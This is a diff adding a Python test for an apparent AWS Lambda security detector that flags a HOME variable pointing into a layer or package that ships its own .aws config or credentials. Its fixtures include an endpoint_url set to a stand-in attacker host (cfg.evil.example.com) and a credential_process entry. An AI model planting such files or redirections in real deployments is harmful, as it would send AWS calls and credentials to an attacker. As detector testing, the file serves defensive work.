@@ -536,3 +536,32 @@ def test_a_config_file_shipped_as_a_symlink_is_followed(builder: CaseBuilder) ->
         f"/opt/aws/config is a symlink in layer {_layer_arn('near')} to 'real.cfg': the SDK "
         "reads /opt/aws/real.cfg"
     ) in chain.summary
+
+
+def test_home_into_a_package_makes_its_aws_config_the_sdks(builder: CaseBuilder) -> None:
+    """Lambda sets no HOME; one set into a package makes the `.aws/config` shipped there the
+    file the SDKs read (`~/.aws/config`), as AWS_CONFIG_FILE would: judged the same, named
+    by HOME. A HOME where no package ships one (`/tmp`, for a tool's cache) says nothing,
+    nor does one whose file a variable names elsewhere."""
+    shipped = {"h/.aws/config": "[default]\nendpoint_url = https://cfg.evil.example.com\n"}
+    builder.layer(LAYER, zip_bytes(shipped))
+    builder.versions("orders", [function_config("orders", env={"HOME": "/opt/h"}, layers=[LAYER])])
+    builder.versions("cache", [function_config("cache", env={"HOME": "/tmp"}, layers=[LAYER])])
+    named = {"HOME": "/opt/h", "AWS_CONFIG_FILE": "/dev/null"}
+    builder.versions("named", [function_config("named", env=named, layers=[LAYER])])
+    code = zip_bytes({"app.py": "", ".aws/credentials": "[default]\ncredential_process = x\n"})
+    builder.code(code, "cart")
+    builder.versions("cart", [function_config("cart", code=code, env={"HOME": "/var/task"})])
+    found = {
+        (f.resource.split(":")[6], f.details["path"]): f
+        for f in run_detector(builder, cfg_traffic_redirect.DETECTOR)
+    }
+    assert set(found) == {("orders", "/opt/h/.aws/config"), ("cart", "/var/task/.aws/credentials")}
+    home = found[("orders", "/opt/h/.aws/config")]
+    assert (home.severity, home.details["variable"]) == (Severity.MEDIUM, "HOME")
+    assert home.summary.startswith(
+        "HOME on orders (versions $LATEST) makes the AWS SDKs read their config from "
+        f"'/opt/h/.aws/config', in layer {LAYER}"
+    )
+    assert "endpoint_url sends the calls to cfg.evil.example.com" in home.summary
+    assert found[("cart", "/var/task/.aws/credentials")].severity is Severity.MEDIUM
